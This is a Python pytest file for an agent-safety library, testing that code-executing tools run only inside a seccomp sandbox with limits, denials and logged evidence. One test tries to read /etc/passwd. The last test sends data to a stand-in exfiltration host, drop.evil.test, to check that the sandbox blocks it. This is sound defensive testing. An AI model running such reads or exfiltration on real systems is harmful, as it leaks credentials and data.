"""A call of a tool that executes runs its code in the sandbox, and in no other way."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from pytest_agentsafety.adapters import simulated
from pytest_agentsafety.adapters.tools import as_spec
from pytest_agentsafety.gate import DenialText, Gate
from pytest_agentsafety.model.events import Event, SandboxRan, ToolReturned
from pytest_agentsafety.model.policy import Policy, ToolRule

NOBODY_ASKS = frozenset({"permissions"})
EXECUTE = ToolRule(effect="execute", timeout=20)


class Sink:
    def __init__(self) -> None:
        self.events: list[Event] = []

    def emit(self, event: Event) -> None:
        self.events.append(event)

    def of(self, kind: type[Any]) -> list[Any]:
        return [event for event in self.events if isinstance(event, kind)]


Opened = tuple[Callable[..., Any], Sink, list[str]]


def opened(rule: ToolRule = EXECUTE, *, name: str = "execute_code", task: str = "", **options: Any) -> Opened:
    """The gated tool, its events, and the calls that reached the tool's own function."""
    reached: list[str] = []

    def tool(code: str) -> str:
        """Run code."""
        reached.append(code)
        return "in process"

    tool.__name__ = name
    sink = Sink()
    policy = options.pop("policy", Policy(tools={name: rule}, guards=NOBODY_ASKS))
    gate = Gate(policy, sink=sink, guardrails=())
    (wrapped,) = gate.open(task, **options).wrap([options.pop("spec", None) or tool])
    return wrapped, sink, reached


def test_the_code_runs_in_the_sandbox_and_not_in_the_tool() -> None:
    run, sink, reached = opened()
    assert run(code="import os; print(6 * 7, os.environ.get('HOME', '').endswith('/tmp'))") == "42 True"
    assert reached == []
    (ran,) = sink.of(SandboxRan)
    assert (ran.tool, ran.status, ran.exit_code, ran.backend) == ("execute_code", "ok", 0, "native")
    assert "seccomp" in ran.layers
    assert ran.cpu_s > 0
    assert ran.wall_s > 0
    assert ran.max_rss_kb > 0
    (returned,) = sink.of(ToolReturned)
    assert (returned.status, returned.result) == ("ok", "42 True")


def test_what_the_model_reads() -> None:
    run, _, _ = opened(replace(EXECUTE, timeout=1.0, output_kb=1))
    assert run(code="import sys; print('out'); print('err', file=sys.stderr); sys.exit(3)") == (
        "out\n[standard error]\nerr\n[exit code 3]"
    )
    assert run(code="pass") == "[no output]"
    assert run(code="import time; time.sleep(9)") == "[timeout: it ran longer than 1 s]"
    assert run(code="print('x' * 5000)").endswith(
        "[output_limit: it wrote more than 1 KB to standard output and error]"
    )
    failed = run(code="x = 1\nx / 0")
    assert 'File "<execute_code>", line 2' in failed
    assert failed.endswith("ZeroDivisionError: division by zero\n[exit code 1]")


def test_the_rules_limits_count() -> None:
    run, sink, _ = opened(replace(EXECUTE, memory_mb=128))
    assert "[memory: it asked for more than 128 MB]" in run(code="x = bytearray(200 << 20)")
    assert sink.of(SandboxRan)[0].status == "memory"


def test_violations_and_changes_are_evidence(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("old\n")
    run, sink, _ = opened(base=tmp_path)
    told = run(code="open('notes.txt', 'a').write('new\\n')\ntry: open('/etc/passwd')\nexcept OSError: pass")
    assert told == "[files changed: notes.txt]"
    assert (tmp_path / "notes.txt").read_text() == "old\nnew\n"
    (ran,) = sink.of(SandboxRan)
    assert {"syscall": "openat", "path": "/etc/passwd"} in ran.violations
    assert ran.changes == {"notes.txt": "--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1,2 @@\n old\n+new\n"}


def test_a_gates_own_base_is_no_workspace(tmp_path: Path) -> None:
    """An application's folder is where its paths start, not what code may change."""
    (tmp_path / "mine").write_text("x")
    policy = Policy(tools={"execute_code": EXECUTE}, guards=NOBODY_ASKS)

    def execute_code(code: str) -> str:
        """Run code."""
        return code

    (run,) = Gate(policy, guardrails=(), base=tmp_path).open("").wrap([execute_code])
    assert run(code="import os; print(os.listdir('.'))") == "[]"
    (run,) = Gate(policy, guardrails=(), workspace=tmp_path).open("").wrap([execute_code])
    assert run(code="import os; print(os.listdir('.'))") == "['mine']"


def test_an_async_tool_is_contained_too() -> None:
    reached = []

    async def execute_code(code: str) -> str:
        """Run code."""
        reached.append(code)
        return "in process"

    policy = Policy(tools={"execute_code": EXECUTE}, guards=NOBODY_ASKS)
    (run,) = Gate(policy, guardrails=()).open("").wrap([execute_code])
    assert asyncio.run(run(code="print('apart')")) == "apart"
    assert reached == []


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"sandbox": "refuse"}, "the rule says sandbox = 'refuse'"),
        ({"sandbox": "docker"}, "needs an image of your choice"),
        ({"no_network": False}, "none are listed"),
    ],
)
@pytest.mark.parametrize("guards", [NOBODY_ASKS, frozenset()])
def test_what_cannot_be_had_is_a_denial_with_any_guards(change: Any, words: str, guards: Any) -> None:
    policy = Policy(tools={"execute_code": replace(EXECUTE, **change)}, guards=guards)
    run, sink, reached = opened(policy=policy)
    told = run(code="print(1)")
    assert isinstance(told, DenialText)
    assert (told.decision.guard, told.decision.rule) == ("sandbox", "sandbox.unavailable")
    assert words in told.decision.reason
    assert (reached, sink.of(SandboxRan)) == ([], [])


@pytest.mark.parametrize("arguments", [{"command": "ls"}, {"job_id": "17"}, {"code": 5}, {}])
def test_a_call_without_python_code_is_denied(arguments: Any) -> None:
    reached = []

    def launch(**given: Any) -> str:
        """Launch."""
        reached.append(given)
        return "launched"

    policy = Policy(tools={"launch": EXECUTE}, guards=frozenset())
    (run,) = Gate(policy, guardrails=()).open("").wrap([launch])
    told = run(**arguments)
    assert isinstance(told, DenialText)
    assert told.decision.rule == "sandbox.no_code"
    assert reached == []


class Stage:
    """A harness that plays the tool, or does not."""

    def __init__(self, *, plays: bool) -> None:
        self.plays = plays

    def cast(self, _call: Any, run: Callable[..., Any], *, asynchronous: bool, **_: Any) -> Callable[..., Any]:
        if not self.plays:
            return run

        def stand_in(**_: Any) -> str:
            return "played"

        async def async_stand_in(**_: Any) -> str:
            return "played"

        chosen: Callable[..., Any] = async_stand_in if asynchronous else stand_in
        vars(chosen)["is_simulated"] = True
        return chosen


@pytest.mark.parametrize(
    ("plays", "guards", "told"), [(True, frozenset(), "played"), (True, NOBODY_ASKS, None), (False, frozenset(), None)]
)
@pytest.mark.parametrize("asynchronous", [False, True])
def test_without_guards_a_stand_in_needs_no_sandbox_and_anything_else_is_refused(
    plays: bool, guards: Any, told: str | None, asynchronous: bool
) -> None:
    reached = []

    def shell(command: str) -> str:
        """Run a command."""
        reached.append(command)
        return "ran"

    task = Gate(Policy(tools={"shell": EXECUTE}, guards=guards), guardrails=()).open("", stage=Stage(plays=plays))
    task.wrap([shell])

    async def run_async(command: str) -> str:
        return shell(command)

    if asynchronous:
        shown = asyncio.run(task.acall("shell", {"command": "ls"}, run_async))
    else:
        shown = task.call("shell", {"command": "ls"}, shell)
    if told is None:
        assert isinstance(shown, DenialText)
        assert shown.decision.rule == "sandbox.no_code"
    else:
        assert shown == told
    assert reached == []
    assert reached == []


def test_a_sandbox_that_is_missing_at_the_call_is_a_denial_and_no_tool_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pytest_agentsafety.sandbox.native.build_filter", lambda *_, **__: None)
    run, sink, reached = opened()
    told = run(code="print(1)")
    assert isinstance(told, DenialText)
    assert told.decision.rule == "sandbox.refused"
    assert "x86_64 and aarch64" in told.decision.reason
    assert reached == []
    assert sink.of(ToolReturned)[-1].status == "denied"
    (ran,) = sink.of(SandboxRan)
    assert (ran.status, ran.cpu_s, ran.wall_s) == ("refused", None, None)


def test_approval_comes_before_the_sandbox() -> None:
    """Code nobody asked for is held: the sandbox contains it, it does not make it wanted."""
    run, sink, _ = opened(policy=Policy(tools={"execute_code": EXECUTE}), task="What is the weather?")
    told = run(code="print(1)")
    assert isinstance(told, DenialText)
    assert told.status == "held"
    assert sink.of(SandboxRan) == []


def test_a_stand_in_stays_one() -> None:
    def execute_code(code: str) -> str:
        """Run code."""
        raise AssertionError("the real tool")

    sink = Sink()
    policy = Policy(tools={"execute_code": EXECUTE}, guards=NOBODY_ASKS)
    (run,) = Gate(policy, sink=sink, guardrails=()).open("").wrap([simulated(as_spec(execute_code))])
    assert run(code="print(1)") == "ok"
    assert sink.of(SandboxRan) == []


def test_where_code_wanted_to_go_stands_in_the_evidence() -> None:
    policy = Policy(
        tools={"execute_code": replace(EXECUTE, no_network=False, allowed_domains=("api.example.com",))},
        guards=NOBODY_ASKS,
    )
    run, sink, reached = opened(policy=policy)
    code = "import urllib.request\nurllib.request.urlopen('https://drop.evil.test/in', data=b'x')"
    told = run(code=code)
    assert "403 Forbidden" in told
    assert "drop.evil.test is not allowed; allowed: api.example.com" in told
    (ran,) = sink.of(SandboxRan)
    assert {"syscall": "connect", "path": "drop.evil.test:443"} in ran.violations
    assert reached == []
